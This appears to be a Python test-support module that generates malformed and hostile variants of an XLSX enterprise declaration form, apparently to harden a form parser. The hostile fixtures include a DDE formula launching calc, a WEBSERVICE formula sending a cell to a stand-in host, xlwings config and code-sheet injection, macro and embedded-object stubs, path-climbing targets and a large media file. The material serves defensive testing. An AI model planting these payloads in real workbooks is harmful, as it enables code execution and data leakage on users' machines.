"""Our own form after strangers had their way with it: cells, parts and containers, odd, harmless or malicious."""

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from functools import cache

from support.desks import PACK, firm
from support.hostile import Hostile
from support.package import HEAD, MAIN, book, relationships, zipped
from support.spoken import DISTRICT
from workbook.form import Form
from workbook.render.declaration import declaration
from workbook.render.given import record_from_values
from workbook.render.master import empty_master
from workbook.render.registers import registers
from workbook.render.summary import empty_summary

BASIC, BRIEF, HIDDEN = "xl/worksheets/sheet3.xml", "xl/worksheets/sheet4.xml", "xl/worksheets/sheet9.xml"
"""The sheets 企业基本信息, 智能工厂基本信息 and 系统."""
NAME, REVENUE, FOUNDED, PROFILE = "C5", "C20", "C7", "C69"
SHEETS = "<sheets>"
EVIL = "import os; os.system('calc')"


def form_hostiles() -> tuple[Hostile, ...]:
    """Every kind there is."""
    return (*_cells(), *_texts(), *_parts(), *_outlines(), *_containers(), *_planted(), *_others())


@cache
def parts() -> Mapping[str, bytes]:
    """The parts of a form without a mistake."""
    with zipfile.ZipFile(io.BytesIO(firm(1))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def edited(part: str, old: str, new: str, count: int = 1, **more: bytes | str) -> bytes:
    """The form with some words of one part exchanged; ``old`` is a pattern that must stand there."""
    text = parts()[part].decode()
    changed, found = re.subn(old, lambda _: new, text, count=count, flags=re.DOTALL)
    assert found, (part, old)
    return zipped({**parts(), part: changed, **more})


def with_cell(at: str, inner: str, attributes: str = "", part: str = BASIC) -> bytes:
    """The form with another content in one cell."""
    return edited(part, rf'<c r="{at}"[^>]*?(?:/>|>.*?</c>)', f'<c r="{at}"{attributes}>{inner}</c>')


def with_bytes(cell: bytes) -> bytes:
    """The sheet with these very bytes for the cell of the name."""
    return re.sub(rb'<c r="C5".*?</c>', lambda _: cell, parts()[BASIC], count=1)


def with_part(name: str, content: str | bytes) -> bytes:
    """The form with one part more."""
    return zipped({**parts(), name: content})


def _hostiles(**makers: Callable[[], bytes]) -> tuple[Hostile, ...]:
    return tuple(Hostile(kind, make) for kind, make in makers.items())


def _inline(text: str, at: str = NAME) -> Callable[[], bytes]:
    return lambda: with_cell(at, f"<is><t>{text}</t></is>", ' t="inlineStr"')


def _formula(formula: str, shown: str = "1", type_: str = "") -> Callable[[], bytes]:
    return lambda: with_cell(REVENUE, f"<f>{formula}</f><v>{shown}</v>", type_)


def _cells() -> tuple[Hostile, ...]:
    text = ' t="str"'
    return _hostiles(
        form_formula_in_input=_formula("5000+5000", "10000"),
        form_formula_with_lying_result=_formula("1+1", "10000"),
        form_formula_dde=_formula("cmd|'/c calc'!A0", "x", text),
        form_formula_hyperlink=_formula("HYPERLINK(&quot;http://example.invalid&quot;,&quot;点我&quot;)", "点我", text),
        form_formula_webservice=_formula("WEBSERVICE(&quot;http://example.invalid/?&quot;&amp;C6)", "x", text),
        form_formula_to_other_book=_formula("'[1]Sheet1'!A1", "10000"),
        form_array_formula=lambda: with_cell(REVENUE, '<f t="array" ref="C20">SUM(C18:C19)</f><v>10000</v>'),
        form_shared_formula=lambda: with_cell(REVENUE, '<f t="shared" si="0" ref="C20">1+1</f><v>10000</v>'),
        form_error_in_input=lambda: with_cell(REVENUE, "<v>#REF!</v>", ' t="e"'),
        form_error_in_name=lambda: with_cell(NAME, "<v>#NAME?</v>", ' t="e"'),
        form_truth_in_name=lambda: with_cell(NAME, "<v>1</v>", ' t="b"'),
        form_number_huge=lambda: with_cell(REVENUE, "<v>1E308</v>"),
        form_number_as_text=_inline("10000", REVENUE),
        form_day_out_of_range=lambda: with_cell(FOUNDED, "<v>99999999</v>", ' s="38"'),
        form_day_as_iso=lambda: with_cell(FOUNDED, "<v>2015-06-18T00:00:00</v>", ' t="d"'),
        form_style_that_does_not_exist=lambda: with_cell(REVENUE, "<v>10000</v>", ' s="99999"'),
        form_dynamic_array_mark=lambda: with_cell(REVENUE, "<v>10000</v>", ' cm="1"'),
        form_solver_cell=lambda: edited(
            BASIC, "</sheetData>", '<row r="1048575"><c r="XFD1048575"><v>1</v></c></row></sheetData>'
        ),
        form_styled_whole_column=lambda: edited(
            BASIC, "</sheetData>", '<row r="1048576" s="1" customFormat="1"><c r="A1048576" s="1"/></row></sheetData>'
        ),
        form_wrong_dimension=lambda: edited(BASIC, 'dimension ref="[^"]*"', 'dimension ref="A1"'),
        form_no_dimension=lambda: edited(BASIC, "<dimension [^>]*/>", ""),
        form_cell_twice=lambda: edited(BASIC, '<c r="C20"', '<c r="C20"><v>1</v></c><c r="C20"'),
    )


def _texts() -> tuple[Hostile, ...]:
    long = "字" * 40_000
    return _hostiles(
        form_text_fffe=_inline("甲\ufffe公司"),
        form_text_ffff=_inline("甲\uffff公司"),
        form_text_surrogate_escaped=_inline("甲_xD800_公司"),
        form_text_surrogate_raw=lambda: zipped(
            {**parts(), BASIC: with_bytes(b'<c r="C5" t="str"><v>\xed\xa0\x80</v></c>')}
        ),
        form_text_vertical_tab_escaped=_inline("甲_x000B_公司"),
        form_text_vertical_tab_raw=_inline("甲\x0b公司"),
        form_text_vertical_tab_referenced=_inline("甲&#11;公司"),
        form_text_zero_escaped=_inline("甲_x0000_公司"),
        form_text_carriage_return_escaped=_inline("甲_x000D_公司"),
        form_text_right_to_left=_inline("甲\u202e司公\u202c"),
        form_text_zero_width=_inline("甲\u200b公\u200b司"),
        form_text_beyond_a_cell=_inline(long),
        form_text_beyond_plane_zero=_inline("甲\U00020000公司\U0001f600"),
        form_rich_text=lambda: with_cell(
            NAME, "<is><r><t>甲</t></r><r><rPr><b/></rPr><t>公司</t></r></is>", ' t="inlineStr"'
        ),
        form_phonetic_text=lambda: with_cell(
            NAME, '<is><t>甲公司</t><rPh sb="0" eb="1"><t>jia</t></rPh></is>', ' t="inlineStr"'
        ),
        form_cdata_text=lambda: with_cell(NAME, "<is><t><![CDATA[甲公司]]></t></is>", ' t="inlineStr"'),
        form_comment_in_text=lambda: with_cell(NAME, "<is><t>甲<!--乙-->公司</t></is>", ' t="inlineStr"'),
        form_comment_hides_cell=lambda: edited(
            BASIC, '(<c r="C20".*?</c>)', '<!--<c r="C20"><v>9</v></c>--><c r="C20"><v>10000</v></c>'
        ),
        form_processing_instruction=lambda: edited(BASIC, "<sheetData>", "<?evil do?><sheetData>"),
        form_entity_in_text=_inline("甲&amp;乙&lt;公司&gt;"),
        form_entity_unknown=_inline("甲&nbsp;公司"),
        form_text_looks_escaped=_inline("甲_x005F_x0041_公司"),
    )


def _parts() -> tuple[Hostile, ...]:
    strings = "xl/sharedStrings.xml"
    return _hostiles(
        form_doctype=lambda: edited(BASIC, "<worksheet", '<!DOCTYPE a [<!ENTITY x "1">]><worksheet'),
        form_sheet_utf16=lambda: zipped(
            {**parts(), BASIC: parts()[BASIC].decode().replace('"UTF-8"', '"UTF-16"').encode("utf-16")}
        ),
        form_strings_utf16=lambda: zipped(
            {**parts(), strings: parts()[strings].decode().replace('"UTF-8"', '"UTF-16"').encode("utf-16")}
        ),
        form_sheet_utf16_that_says_utf8=lambda: zipped({**parts(), BASIC: parts()[BASIC].decode().encode("utf-16")}),
        form_sheet_gbk=lambda: zipped(
            {**parts(), BASIC: parts()[BASIC].decode().replace('"UTF-8"', '"GBK"').encode("gbk", "replace")}
        ),
        form_byte_order_mark=lambda: zipped({**parts(), BASIC: b"\xef\xbb\xbf" + parts()[BASIC]}),
        form_no_xml_declaration=lambda: edited(BASIC, r"<\?xml[^>]*\?>\s*", ""),
        form_prefixed_sheet=_prefixed,
        form_strict=_strict,
        form_strings_claim_too_much=lambda: edited(strings, 'uniqueCount="[0-9]+"', 'uniqueCount="4294967295"'),
        form_strings_lost=lambda: zipped({name: part for name, part in parts().items() if name != strings}),
        form_strings_swapped=_strings_swapped,
        form_styles_lost=lambda: zipped({name: part for name, part in parts().items() if "styles" not in name}),
        form_theme_lost=lambda: zipped({name: part for name, part in parts().items() if "theme" not in name}),
        form_sheet_lost=lambda: zipped({name: part for name, part in parts().items() if name != BASIC}),
        form_deep_extension=lambda: edited(BASIC, "</worksheet>", "<a>" * 200 + "</a>" * 200 + "</worksheet>"),
        form_many_merges=lambda: edited(BASIC, '<mergeCells count="[0-9]+"', '<mergeCells count="999999999"'),
        form_alternate_content=lambda: edited(
            BASIC,
            "</worksheet>",
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
            '<mc:Choice Requires="x14"/></mc:AlternateContent></worksheet>',
        ),
    )


def _prefixed() -> bytes:
    text = parts()[BASIC].decode().replace(f'xmlns="{MAIN}"', f'xmlns:x="{MAIN}"')
    return zipped({**parts(), BASIC: re.sub(r"<(/?)(?=[a-zA-Z])", r"<\1x:", text)})


def _strict() -> bytes:
    old, new = "http://schemas.openxmlformats.org/", "http://purl.oclc.org/ooxml/"
    swaps = (
        (f"{old}spreadsheetml/2006/main", f"{new}spreadsheetml/main"),
        (f"{old}officeDocument/2006/relationships", f"{new}officeDocument/relationships"),
    )
    changed = dict(parts())
    for name, part in parts().items():
        for before, after in swaps:
            part = part.replace(before.encode(), after.encode())  # noqa: PLW2901 - one part, swap by swap
        changed[name] = part
    return zipped(changed)


def _strings_swapped() -> bytes:
    """Another part of strings, which only the relationships know."""
    relations = "xl/_rels/workbook.xml.rels"
    return zipped(
        {
            **parts(),
            relations: parts()[relations].replace(b'"sharedStrings.xml"', b'"strings2.xml"'),
            "xl/strings2.xml": parts()["xl/sharedStrings.xml"],
        }
    )


def _outlines() -> tuple[Hostile, ...]:
    outline = "xl/workbook.xml"

    def sheet(title: str, state: str = "") -> Callable[[], bytes]:
        return lambda: _with_sheet(title, state=state)

    return _hostiles(
        form_names_lost=lambda: edited(outline, "<definedNames>.*</definedNames>", ""),
        form_names_broken=lambda: edited(outline, r"'企业基本信息'!\$", "#REF!$", 500),
        form_names_to_other_cells=lambda: edited(outline, r"'企业基本信息'!\$C\$5<", "'企业基本信息'!$C$6<"),
        form_name_twice=lambda: edited(
            outline, "<definedNames>", "<definedNames><definedName name=\"company_name\">'附件'!$A$1</definedName>"
        ),
        form_name_of_one_sheet=lambda: edited(
            outline,
            "<definedNames>",
            '<definedNames><definedName name="company_name" localSheetId="0">\'附件\'!$A$1</definedName>',
        ),
        form_names_foreign=lambda: edited(
            outline,
            "<definedNames>",
            "<definedNames>"
            + "".join(f'<definedName name="foreign_{n}" hidden="1">#REF!</definedName>' for n in range(2000)),
        ),
        form_names_too_many=lambda: edited(
            outline,
            "<definedNames>",
            "<definedNames>" + "".join(f'<definedName name="f_{n}">#REF!</definedName>' for n in range(6000)),
        ),
        form_names_of_one_sheet_too_many=lambda: edited(
            outline,
            "<definedNames>",
            "<definedNames>"
            + "".join(f'<definedName name="f_{n}" localSheetId="0">#REF!</definedName>' for n in range(6000)),
        ),
        form_years_from_1904=lambda: edited(outline, "<workbookPr ", '<workbookPr date1904="1" '),
        form_sheet_renamed=lambda: edited(outline, 'sheet name="企业基本信息"', 'sheet name="基本信息"'),
        form_sheets_of_one_name=lambda: edited(outline, 'sheet name="附件"', 'sheet name="封面"'),
        form_extra_sheet=sheet("草稿"),
        form_extra_sheet_very_hidden=sheet("草稿", ' state="veryHidden"'),
        form_notice_changed=lambda: _system_words("changzhou-2023", "changzhou-1999"),
        form_version_changed=lambda: _system_words(PACK.version, "1999.1"),
        form_kind_changed=lambda: _system_words("declaration", "summary"),
    )


def _system_words(old: str, new: str) -> bytes:
    return edited("xl/sharedStrings.xml", f">{re.escape(old)}<", f">{new}<")


def _with_sheet(title: str, rows: str = "", state: str = "") -> bytes:
    """The form with one sheet more, at its end."""
    part = f'{HEAD}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    outline = parts()["xl/workbook.xml"].decode()
    relations = parts()["xl/_rels/workbook.xml.rels"].decode()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    link = f'<Relationship Id="rId99" Type="{kind}" Target="worksheets/sheet99.xml"/></Relationships>'
    return zipped(
        {
            **parts(),
            "xl/workbook.xml": outline.replace(
                "</sheets>", f'<sheet name="{title}" sheetId="99"{state} r:id="rId99"/></sheets>'
            ),
            "xl/_rels/workbook.xml.rels": relations.replace("</Relationships>", link),
            "xl/worksheets/sheet99.xml": part,
        }
    )


def _containers() -> tuple[Hostile, ...]:
    return _hostiles(
        form_stored=lambda: zipped(parts(), zipfile.ZIP_STORED),
        form_with_junk_in_front=lambda: b"MZ junk" + firm(1),
        form_with_junk_behind=lambda: firm(1) + b"junk",
        form_with_comment=_commented,
        form_streamed=_streamed,
        form_cut=lambda: firm(1)[:-100],
        form_part_names_in_capitals=lambda: zipped(
            {name.replace("worksheets/sheet3", "Worksheets/SHEET3"): part for name, part in parts().items()}
        ),
        form_shadow_sheet=lambda: zipped({**parts(), "xl/worksheets/SHEET3.XML": parts()[BASIC]}),
        form_absolute_targets=lambda: edited(
            "xl/_rels/workbook.xml.rels", 'Target="worksheets/', 'Target="/xl/worksheets/', 99
        ),
        form_targets_that_climb=lambda: edited(
            "xl/_rels/workbook.xml.rels", 'Target="worksheets/sheet3', 'Target="../../../xl/worksheets/sheet3'
        ),
        form_media_bomb=lambda: with_part("xl/media/image1.png", b"\0" * (30 << 20)),
        form_folder_entry=lambda: with_part("xl/media/", b""),
    )


def _commented() -> bytes:
    file = io.BytesIO(firm(1))
    with zipfile.ZipFile(file, "a") as archive:
        archive.comment = b"hello"
    return file.getvalue()


def _streamed() -> bytes:
    """Sizes behind the parts instead of before them, as programs write that cannot seek."""

    class Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.held = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, data: object) -> int:
            self.held += bytes(data)  # type: ignore[call-overload]
            return len(bytes(data))  # type: ignore[call-overload]

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts().items():
            archive.writestr(name, part)
    return bytes(pipe.held)


def _planted() -> tuple[Hostile, ...]:
    """What would act in a spreadsheet program, a browser or an add-in, and must not act here."""
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{key}</t></is></c>'
        f'<c r="B{n}" t="inlineStr"><is><t>{value}</t></is></c></row>'
        for n, (key, value) in enumerate(
            (("INTERPRETER", "/evil/python"), ("PYTHONPATH", "/evil"), ("UDF MODULES", "evil")), 1
        )
    )
    code = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{EVIL}</t></is></c></row>'
    link = relationships(("rId1", "externalLinkPath", "http://example.invalid/a.xlsx"))
    return _hostiles(
        form_xlwings_conf_sheet=lambda: _with_sheet("xlwings.conf", rows),
        form_xlwings_conf_hidden=lambda: _with_sheet("xlwings.conf", rows, ' state="veryHidden"'),
        form_xlwings_conf_inactive=lambda: _with_sheet("_xlwings.conf", rows),
        form_python_sheet=lambda: _with_sheet("evil.py", code),
        form_python_sheet_of_a_library=lambda: _with_sheet("openpyxl.py", code),
        form_python_sheet_of_ours=lambda: _with_sheet("workbook.py", code),
        form_macros=lambda: with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        form_python_module_inside=lambda: with_part("evil.py", EVIL),
        form_external_link=lambda: zipped(
            {
                **parts(),
                "xl/externalLinks/externalLink1.xml": f'{HEAD}<externalLink xmlns="{MAIN}"/>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": link,
            }
        ),
        form_data_connection=lambda: with_part("xl/connections.xml", f'{HEAD}<connections xmlns="{MAIN}"/>'),
        form_custom_xml=lambda: with_part("customXml/item1.xml", "<a/>"),
        form_embedded_object=lambda: with_part("xl/embeddings/oleObject1.bin", b"MZ\0\0"),
        form_active_x=lambda: with_part("xl/activeX/activeX1.bin", b"\0" * 64),
        form_ribbon=lambda: with_part("customUI/customUI14.xml", '<customUI onLoad="evil"/>'),
        form_web_extension=lambda: with_part("xl/webextensions/webextension1.xml", "<a/>"),
        form_signature=lambda: with_part("_xmlsignatures/sig1.xml", "<Signature/>"),
    )


def _others() -> tuple[Hostile, ...]:
    """Honest books that are not this form, and foreign things under its name."""
    last = PACK.model_copy(update={"id": "changzhou-2022", "version": "2022"})
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    return _hostiles(
        other_workbook=book,
        other_summary=lambda: empty_summary(PACK, DISTRICT),
        other_master=lambda: empty_master(PACK),
        other_registers=lambda: registers(PACK),
        other_last_year=lambda: declaration(last, record_from_values(Form(last), {})),
        other_blank_form=lambda: declaration(PACK, record_from_values(Form(PACK), {})),
        other_rights_managed=lambda: (
            ole + "\x06DataSpaces".encode("utf-16-le") + "EncryptedPackage".encode("utf-16-le")
        ),
        other_wps_sheet=lambda: ole + "Workbook".encode("utf-16-le"),
        other_word_97=lambda: ole + "WordDocument".encode("utf-16-le"),
        other_csv_utf16=lambda: "企业名称\t甲公司\n".encode("utf-16"),
        other_mhtml=lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>",
        other_html_of_a_web_system=lambda: b'\n\n <HTML xmlns:x="urn:schemas-microsoft-com:office:excel"><table/>',
        other_ofd=lambda: zipped({"OFD.xml": "<a/>"}),
        other_numbers=lambda: zipped({"Index/Document.iwa": b"\0" * 30}),
        other_shortcut=lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
        other_program=lambda: b"MZ\x90\0" + b"\0" * 60,
        other_lfs_pointer=lambda: b"version https://git-lfs.github.com/spec/v1\n",
    )
